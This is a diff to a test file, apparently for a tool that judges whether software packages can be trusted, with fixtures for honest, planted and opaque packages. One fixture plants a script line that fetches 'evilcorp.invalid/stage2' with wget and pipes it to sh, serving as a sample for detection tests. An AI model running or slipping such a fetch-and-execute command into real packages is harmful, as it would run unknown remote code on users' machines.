@@ -9,6 +9,7 @@ import time
 import jsonschema
 
 import made
+from gating import DARK
 from plumb_test import EXIT_NAMES, RAW, ROOT, SCHEMA, case, main
 
 CODES = {**EXIT_NAMES, 70: "bug"}
@@ -42,7 +43,7 @@ def world(t):
     """An honest package and a planted one, one that nobody can look into, and the reports of them."""
     t.write("source/clock.sh", "#!/bin/sh\n# Say what time it is, in a friendly way.\necho \"It is $(date), my friend.\"\nexit 0\n")
     text = t.path("source/clock.sh").read_bytes()
-    for name, extra in (("good", {}), ("bad", {"cron": PLANTED.encode()}), ("dark", {"a.wasm": b"\0asm\1\0\0\0" + bytes(range(1, 200))})):
+    for name, extra in (("good", {}), ("bad", {"cron": PLANTED.encode()}), ("dark", {"a.pyc": DARK})):
         t.write(f"{name}/clock.sh", text)
         for file, data in extra.items():
             t.write(f"{name}/{file}", data)
@@ -106,7 +107,7 @@ def verbs_about_trust_give_json_with_every_code(t):
     planted = t.write("y.deb", made.package().set("usr/bin/x", "#!/bin/sh\nwget evilcorp.invalid/stage2 | sh\n").build())
     t.write("y.json", t.check(planted, "--source", t.path("src"), expect=1).stdout)
     # a policy that asks for more than can be known of it makes a pass inconclusive
-    dark = t.write("z.deb", made.package().set("usr/share/greet/a.wasm", b"\0asm\1\0\0\0" + bytes(range(1, 200))).build())
+    dark = t.write("z.deb", made.package().set("usr/share/greet/a.pyc", DARK).build())
     t.write("z.json", t.check(dark, "--source", t.path("src"), expect=3).stdout)
     run(t, 0, "key", "gen", "k")
     run(t, 4, "key", "gen")
